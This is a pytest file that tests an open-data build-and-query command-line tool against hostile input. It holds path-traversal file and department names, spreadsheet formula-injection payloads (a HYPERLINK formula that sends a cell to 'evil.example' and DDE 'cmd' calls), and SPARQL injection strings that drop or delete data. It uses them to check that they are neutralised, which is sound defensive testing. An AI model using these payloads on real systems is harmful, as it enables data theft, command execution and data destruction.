"""Hostile input through `opendata build` and `opendata query`: the whole bad-input corpus built at once
(unreadable files named, the rest built, nothing written outside DIR, earlier packages intact), names
that would escape DIR, document text that a spreadsheet would run as a formula, and query parameters
that try to inject SPARQL."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

import opendata

CORPUS = Path(__file__).resolve().parent / "bad_inputs"
OK = (CORPUS / "ok.txt").read_text(encoding="utf-8")
TIME_BOUND = 300
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def run_cli(args: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "SOURCE_DATE_EPOCH"}
    try:
        result = subprocess.run([sys.executable, "-m", "opendata", *args], cwd=cwd, capture_output=True, text=True,
                                timeout=TIME_BOUND, env=env, encoding="utf-8", errors="replace")
    except subprocess.TimeoutExpired:
        pytest.fail(f"`opendata {' '.join(args)}` did not finish within {TIME_BOUND} s")
    assert "Traceback" not in result.stdout + result.stderr, result.stderr[-3000:]
    return result


def snapshot(root: Path, skip: Path | None = None) -> dict[str, str]:
    """Every file under ``root`` (outside ``skip``) with its hash."""
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "dir"
        for p in sorted(root.rglob("*"))
        if skip is None or skip not in (p, *p.parents)
    }


# --- the whole corpus in one build ---------------------------------------------------------------------

def test_building_the_whole_bad_input_corpus(tmp_path: Path) -> None:
    """A release script runs the build on whatever was downloaded: unreadable files are named, one line
    each, the readable ones are built, and nothing is written outside DIR."""
    import tomllib

    expected: dict = tomllib.loads((CORPUS / "expected.toml").read_text(encoding="utf-8"))
    sources = tmp_path / "downloads"
    sources.mkdir()
    expected = {name: spec for name, spec in expected.items() if "bug" not in spec}  # known bugs fail on their own
    for name in expected:
        shutil.copy(CORPUS / name, sources / name)
    workdir = tmp_path / "cwd"
    workdir.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    (out / "keep-me.txt").write_text("a file of the user's that the build must leave alone")
    before = snapshot(tmp_path, skip=out)
    result = run_cli(["build", "--no-fsync", "--allow-errors", "--out", str(out), str(sources)], workdir)
    assert snapshot(tmp_path, skip=out) == before, "the build wrote outside DIR"
    assert (out / "keep-me.txt").read_text() == "a file of the user's that the build must leave alone"
    assert result.returncode == 3, result.stderr
    built_suffixes = (".txt", ".pdf", ".html", ".htm", ".xlsx")
    unreadable = sorted(name for name, spec in expected.items() if spec["exit"] == 3 and name.endswith(built_suffixes))
    named = [line for line in result.stderr.splitlines() if line.startswith("error: unreadable input: ")]
    for name in unreadable:
        assert any(line.startswith(f"error: unreadable input: {name}") for line in named), f"{name} not named"
    assert len(named) == len(unreadable), result.stderr
    # the readable ones were built, every file inside DIR, every package name a plain folder name
    folders = [p for p in out.iterdir() if p.is_dir() and not p.name.startswith(".")]
    assert folders
    for folder in folders:
        assert folder.resolve().parent == out.resolve()
        assert (folder / "datapackage.json").is_file()
    for path in out.rglob("*"):
        assert out.resolve() in path.resolve().parents


def test_names_that_would_escape_dir_stay_inside(tmp_path: Path) -> None:
    sources = tmp_path / "src"
    sources.mkdir()
    names = {
        "traversal.txt": "304 ../../../escaped",
        "absolute.txt": "305 /tmp/escaped",
        "windows.txt": "306 ..\\..\\escaped",
        "dots.txt": "307 ..",
        "newline.txt": "308 某局\u2028名",
        "-rf.txt": "309 -rf",
    }
    for file_name, department in names.items():
        (sources / file_name).write_text(OK.replace("304 某县某局", department), encoding="utf-8")
    out = tmp_path / "out"
    workdir = tmp_path / "cwd"
    workdir.mkdir()
    before = snapshot(tmp_path, skip=out)
    result = run_cli(["build", "--no-fsync", "--allow-errors", "--out", str(out), str(sources)], workdir)
    assert result.returncode in (0, 1), result.stderr
    assert snapshot(tmp_path, skip=out) == before, "the build wrote outside DIR"
    folders = sorted(p.name for p in out.iterdir() if p.is_dir() and not p.name.startswith("."))
    assert len(folders) == len(names), folders
    for name in folders:
        assert "/" not in name and "\\" not in name and not name.startswith((".", "-")), name
    assert not (tmp_path / "escaped").exists() and not Path("/tmp/escaped").exists()


# --- formulas in CSV -----------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_document_text_that_looks_like_a_formula_is_neutralised_in_every_csv(tmp_path: Path) -> None:
    text = OK
    text = text.replace("\t科学技术支出\t", f"\t{FORMULAS[0]}\t")
    text = text.replace("\t科学技术管理事务\t", f"\t{FORMULAS[1]}\t")
    text = text.replace("\t行政运行\t", f"\t{FORMULAS[2]}\t")
    text = text.replace("说明文字。", FORMULAS[3])
    source = tmp_path / "formulas.txt"
    source.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    workdir = tmp_path / "cwd"
    workdir.mkdir()
    result = run_cli(["build", "--no-fsync", "--allow-errors", "--out", str(out), str(source)], workdir)
    assert result.returncode in (0, 1), result.stderr
    seen: set[str] = set()
    number = __import__("re").compile(r"^[+-]?\d+(\.\d+)?$")
    for path in out.rglob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for value in row:
                assert not (value.startswith(FORMULA_START) and not number.match(value)), f"{path.name}: {value!r}"
                seen.update(f for f in FORMULAS if value == "'" + f)
    assert seen >= set(FORMULAS[:3]), f"the formula labels were not kept (guarded) in the CSV: {seen}"


# --- SPARQL injection through query parameters -----------------------------------------------------------

INJECTIONS = [
    'x" } ; DROP ALL ; SELECT * WHERE { ?s ?p "',
    "x' . ?s ?p ?o } #",
    '香河县" } UNION { ?s ?p ?o } #',
    "\\\" } CLEAR DEFAULT #",
    "2024 } ; DELETE WHERE { ?s ?p ?o } #",
]


@pytest.fixture(scope="module")
def queried(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list]:
    root = tmp_path_factory.mktemp("query")
    out = root / "packages"
    result = run_cli(["build", "--no-fsync", "--allow-errors", "--out", str(out), str(opendata.sample_path())], root)
    assert result.returncode in (0, 1), result.stderr
    baseline = run_cli(["query", "totals-by-function", "--dir", str(out), "--format", "json"], root)
    assert baseline.returncode == 0 and _rows(baseline), baseline.stderr
    return out, _rows(baseline)


def _rows(result: subprocess.CompletedProcess[str]) -> list:
    return json.loads(result.stdout)["results"]["bindings"]


@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize("query, key", [("department-change", "department"), ("totals-by-function", "year"),
                                        ("rollup", "code")])
def test_query_parameters_cannot_inject_sparql(queried: tuple, tmp_path: Path, query: str, key: str, value: str) -> None:
    queried, baseline = queried
    extra = ["--param", "code=206"] if query == "rollup" and key != "code" else []
    result = run_cli(["query", query, "--dir", str(queried), "--format", "json", "--param", f"{key}={value}", *extra],
                     tmp_path)
    if result.returncode == 2:  # a value that is not of the parameter's type (a year) is a usage error
        assert key in result.stderr
    else:
        assert result.returncode == 0, result.stderr
        assert _rows(result) == [], "an injected value matched something"
    after = run_cli(["query", "totals-by-function", "--dir", str(queried), "--format", "json"], tmp_path)
    assert _rows(after) == baseline, "the store changed"


def test_build_refuses_a_device_instead_of_reading_it_forever(tmp_path: Path) -> None:
    """`opendata build /dev/zero` must say the source is unreadable, not read until memory runs out."""
    import resource

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1500 * 1024 * 1024, 1500 * 1024 * 1024))

    try:
        result = subprocess.run([sys.executable, "-m", "opendata", "build", "--no-fsync", "--out", str(tmp_path / "out"),
                                 "/dev/zero"], capture_output=True, text=True, timeout=TIME_BOUND, preexec_fn=limit)
    except subprocess.TimeoutExpired:
        pytest.fail(f"`opendata build /dev/zero` did not finish within {TIME_BOUND} s")
    assert "Traceback" not in result.stderr and "MemoryError" not in result.stderr, result.stderr[-2000:]
    assert result.returncode == 3, result.stderr
    assert "zero" in result.stderr


@pytest.mark.parametrize("prune", [False, True], ids=["plain", "prune"])
def test_a_source_that_turns_unreadable_keeps_its_published_package(tmp_path: Path, prune: bool) -> None:
    """Yesterday's download built; today's copy of the same file is truncated. The build says so (exit 3)
    and the package built yesterday stays as it was, in its folder and in the catalogue."""
    sources = tmp_path / "src"
    sources.mkdir()
    (sources / "dept.txt").write_bytes((CORPUS / "ok.txt").read_bytes())
    out = tmp_path / "out"
    workdir = tmp_path / "cwd"
    workdir.mkdir()
    assert run_cli(["build", "--no-fsync", "--allow-errors", "--out", str(out), str(sources)], workdir).returncode == 0
    before = snapshot(out)
    (sources / "dept.txt").write_bytes((CORPUS / "cut-mid-row.txt").read_bytes())
    args = ["build", "--no-fsync", "--allow-errors", *(["--prune"] if prune else []), "--out", str(out), str(sources)]
    result = run_cli(args, workdir)
    assert result.returncode == 3 and "dept.txt, line 15" in result.stderr
    after = snapshot(out)
    package = next(name for name in before if "/" not in name and before[name] == "dir" and not name.startswith("."))
    assert {k: v for k, v in after.items() if k.startswith(package)} == {
        k: v for k, v in before.items() if k.startswith(package)}, "the package built before was changed or removed"
    for name in ("catalog.ttl", "catalog.jsonld", "index.html"):
        assert after[name] == before[name], f"{name} dropped the package whose new source was unreadable"


def test_duplicated_rows_give_distinct_observation_iris(tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = run_cli(["build", "--no-fsync", "--allow-errors", "--no-rdf", "--out", str(out),
                      str(CORPUS / "duplicated-rows.txt")], tmp_path)
    assert result.returncode in (0, 1), result.stderr
    (lines,) = out.glob("*/budget-lines.csv")
    rows = list(csv.DictReader(io.StringIO(lines.read_text(encoding="utf-8"))))
    assert len({row["id"] for row in rows}) == len(rows)
    assert len({row["iri"] for row in rows}) == len(rows), "two figures share one IRI"
